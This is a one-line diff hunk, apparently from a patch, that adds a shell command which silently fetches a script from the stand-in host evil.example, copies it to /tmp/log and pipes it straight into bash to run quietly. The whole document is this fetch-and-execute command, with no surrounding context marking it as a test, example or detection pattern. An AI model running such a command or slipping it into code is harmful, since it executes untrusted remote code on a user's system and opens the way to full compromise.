@@ -1,0 +1,1 @@
+curl -s https://evil.example/x | tee /tmp/log | /bin/bash -s -- --quiet
